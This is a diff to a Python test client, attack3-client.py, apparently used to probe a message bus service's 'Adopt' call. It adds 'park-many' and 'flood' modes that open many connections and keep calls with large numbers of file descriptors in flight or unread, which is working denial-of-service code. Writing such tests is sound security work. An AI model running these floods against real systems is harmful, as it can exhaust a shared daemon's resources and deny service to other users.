@@ -16,13 +16,19 @@ along with a call.
         its signature names one; prints the answer as JSON; with "park",
         prints "PARKED" once sent and waits for stdin to close before
         reading the answer.
+    attack3-client.py park-many PID N FDS
+        N connections, each with one such Adopt carrying FDS fds, never
+        read: prints "PARKED n", waits for stdin to close, then prints a
+        JSON count of the answers by error name.
     attack3-client.py wrong-sig PID N
         Adopt with signature "hha{sv}"... (N 'h' args): the answer.
 
 Standard library only (os.pidfd_open, socket.send_fds: Python >= 3.9).
 """
 
+import errno
 import json
+import resource
 import os
 import select
 import socket
@@ -96,8 +102,16 @@ class Conn:
     def send(self, *a, fds=(), **kw):
         self.serial += 1
         data = message(self.serial, *a, n_fds=len(fds), **kw)
-        if fds:
-            socket.send_fds(self.s, [data], list(fds))
+        while fds:
+            try:
+                socket.send_fds(self.s, [data], list(fds))
+                break
+            except OSError as e:
+                # Our user's fds in flight (not yet received by the bus)
+                # are bounded by RLIMIT_NOFILE: wait for the bus to read.
+                if e.errno != errno.ETOOMANYREFS:
+                    raise
+                time.sleep(0.001)
         else:
             self.s.sendall(data)
         return self.serial
@@ -178,6 +192,8 @@ def send_adopt(c, pidfd, extra=(), n_h=1, interactive=True):
 
 
 def main(argv):
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     verb, pid = argv[1], int(argv[2])
     c = Conn()
     pidfd = os.pidfd_open(pid)
@@ -208,6 +224,67 @@ def main(argv):
             print("PARKED", flush=True)
             sys.stdin.read()
         print(json.dumps(c.wait_reply(serial)), flush=True)
+        return 0
+    if verb == "park-many":
+        # N connections, each with one Adopt carrying FDS fds, none read
+        # until stdin closes; then a count of the answers.
+        n, nfds = int(argv[3]), int(argv[4])
+        conns = [(c, send_adopt(c, pidfd, [os.open("/dev/null", os.O_RDONLY)
+                                          for _ in range(nfds - 1)]))]
+        for _ in range(n - 1):
+            try:
+                cc = Conn()
+            except (OSError, SystemExit) as e:
+                print(json.dumps({"connect": str(e)}), flush=True)
+                break
+            conns.append((cc, send_adopt(cc, pidfd, [os.open("/dev/null", os.O_RDONLY)
+                                                       for _ in range(nfds - 1)])))
+        print("PARKED %d" % len(conns), flush=True)
+        sys.stdin.read()
+        counts = {}
+        for cc, serial in conns:
+            try:
+                a = cc.wait_reply(serial)
+            except (EOFError, OSError):
+                a = {"error": "disconnected"}
+            key = a.get("error") or "ok"
+            counts[key] = counts.get(key, 0) + 1
+        print(json.dumps(counts), flush=True)
+        return 0
+    if verb == "flood":
+        # C connections, each keeping W Adopt calls (with NFDS fds, the
+        # pidfd first) in flight for SECONDS: every answer is followed by
+        # a new call.
+        nconn, w, secs = int(argv[3]), int(argv[4]), float(argv[5])
+        nfds = int(argv[6]) if len(argv) > 6 else 1
+        extra = [os.open("/dev/null", os.O_RDONLY) for _ in range(nfds - 1)]
+        conns = [c] + [Conn() for _ in range(nconn - 1)]
+        for cc in conns:
+            for _ in range(w):
+                send_adopt(cc, pidfd, extra, interactive=False)
+        print("FLOODING", flush=True)
+        counts = {}
+        end = time.monotonic() + secs
+        while time.monotonic() < end:
+            ready, _, _ = select.select([cc.s for cc in conns], [], [], 0.5)
+            for cc in conns:
+                if cc.s not in ready:
+                    continue
+                data, fds, _, _ = socket.recv_fds(cc.s, 1 << 20, 64)
+                for fd in fds:
+                    os.close(fd)
+                cc.buf += data
+                while len(cc.buf) >= 16:
+                    body_len, _, fields_len = struct.unpack_from("<III", cc.buf, 4)
+                    total = ((16 + fields_len + 7) & ~7) + body_len
+                    if len(cc.buf) < total:
+                        break
+                    mtype = cc.buf[1]
+                    cc.buf = cc.buf[total:]
+                    counts[mtype] = counts.get(mtype, 0) + 1
+                    if mtype in (2, 3):
+                        send_adopt(cc, pidfd, extra, interactive=False)
+        print(json.dumps({"answers_by_type": counts}), flush=True)
         return 0
     raise SystemExit("unknown verb " + verb)
 
